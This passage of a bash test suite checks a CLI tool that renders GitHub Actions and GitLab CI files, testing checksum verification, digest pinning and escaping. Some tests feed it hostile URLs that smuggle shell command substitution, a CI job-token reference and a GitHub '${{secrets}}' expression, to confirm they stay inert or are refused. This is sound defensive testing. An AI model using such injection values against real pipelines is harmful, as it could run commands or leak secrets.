    "import yaml, sys; t = open('$WORK/tool-$kind.yml').read(); yaml.safe_load(t); assert '$SUM' in t and 'git clone' not in t"
  (cd "$WORK/ci" && "$PI" render $kind spec.yaml --tool-archive "http://127.0.0.1:$PORT/pi.tar.gz" \
    --tool-sha256 "$(printf '%064d' 0)") >"$WORK/toolbad-$kind.yml" 2>"$WORK/err.txt"
  step_of $kind "$WORK/toolbad-$kind.yml" "$WORK/stepbad-$kind.sh"
  expect_fail "$kind --tool-archive: a checksum mismatch fails the step, nothing is installed" 1 "checksum did NOT match" \
    unshare -m bash -c "mount -t tmpfs tmpfs /opt && mount -t tmpfs tmpfs /usr/local/bin &&
      { bash '$WORK/stepbad-$kind.sh'; rc=\$?; test ! -e /usr/local/bin/paddle-image || exit 9; exit \$rc; }"
done
kill "$SRV" 2>/dev/null || true
pinned="registry.example.com/tools/paddle-image@sha256:$(printf '%064d' 1)"
check "--tool-image: the GitHub job runs in the pinned image, as root (its default user is 65532)" bash -c \
  "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --tool-image '$pinned' | python3 -c \"import sys, yaml; d = yaml.safe_load(sys.stdin); assert d['jobs']['build']['container'] == {'image': '$pinned', 'options': '--user 0'}, d['jobs']['build']\""
check "--tool-image: the GitLab job runs in it, with its entrypoint cleared, as root" bash -c \
  "cd '$WORK/ci' && '$PI' render gitlab-ci spec.yaml --tool-image '$pinned' | python3 -c \"import sys, yaml; d = yaml.safe_load(sys.stdin); assert d['build-image']['image'] == {'name': '$pinned', 'entrypoint': [''], 'docker': {'user': 'root'}}, d['build-image']\""
expect_fail "--tool-image must be pinned by digest (exit 2)" 2 "pinned by digest" \
  bash -c "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --tool-image registry.example.com/tools/paddle-image:latest"
expect_fail "--tool-archive without --tool-sha256 is refused (exit 2)" 2 "needs the other one" \
  bash -c "cd '$WORK/ci' && '$PI' render gitlab-ci spec.yaml --tool-archive https://x.example/p.tar.gz"
expect_fail "--tool-archive for a Dockerfile is refused (exit 2)" 2 "is for github-actions and gitlab-ci" \
  bash -c "cd '$WORK/ci' && '$PI' render dockerfile spec.yaml --tool-archive https://x.example/p.tar.gz --tool-sha256 $SUM"
# Shell and CI syntax in the URL stays text: GitLab gets '$$' for '$' (its own variable
# expansion), GitHub refuses '${{' (an expression) rather than write it.
hostile_url='https://x.example/a$(touch${IFS}planted)"`id`$CI_JOB_TOKEN.tar.gz'
printf '%s' "$hostile_url" >"$WORK/hostile-url.txt"
(cd "$WORK/ci" && "$PI" render gitlab-ci spec.yaml --tool-archive "$hostile_url" --tool-sha256 "$SUM") \
  >"$WORK/hostile-url.yml" 2>"$WORK/err.txt"
check "--tool-archive: a URL full of shell and CI syntax reaches GitLab's variable as text" python3 -c "
import yaml
v = yaml.safe_load(open('$WORK/hostile-url.yml'))['variables']['PADDLE_IMAGE_ARCHIVE']
assert v.replace('\$\$', '\$') == open('$WORK/hostile-url.txt').read(), v"
expect_fail "--tool-archive: a URL with \${{ is refused for GitHub (exit 2)" 2 "would evaluate as an expression" \
  bash -c "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --tool-archive 'https://x.example/\${{secrets.A}}.tar.gz' --tool-sha256 $SUM"
# (a template from before the options: the built-in one without the tool sections)
mkdir -p "$WORK/oldtpl" && python3 - "$ROOT/templates/files/github-actions.yml.mustache" >"$WORK/oldtpl/github-actions.yml.mustache" <<'PY'
import re, sys
t = open(sys.argv[1]).read()
for name in ("tool_archive", "tool_image"):
    t = re.sub(r"\[\[[#^]%s\]\].*?\[\[/%s\]\]\n" % (name, name), "", t, flags=re.S)
print(t, end="")
PY
expect_fail "--tool-archive with a custom template that lacks the section is refused, not ignored (exit 2)" 2 \
  "has no tool_archive section" bash -c "cd '$WORK/ci' && '$PI' render github-actions spec.yaml --template-dir '$WORK/oldtpl' \
  --tool-archive https://x.example/p.tar.gz --tool-sha256 $SUM"
rm -rf "$WORK/toolinit"
check "init writes a CI file that gets the archive" bash -c \
  "'$PI' init ocr-train '$WORK/toolinit' --tool-archive https://dl.example.com/pi.tar.gz --tool-sha256 $SUM >/dev/null 2>&1;
   grep -q 'PADDLE_IMAGE_SHA256: \"$SUM\"' '$WORK/toolinit/.github/workflows/build.yml'"
finish
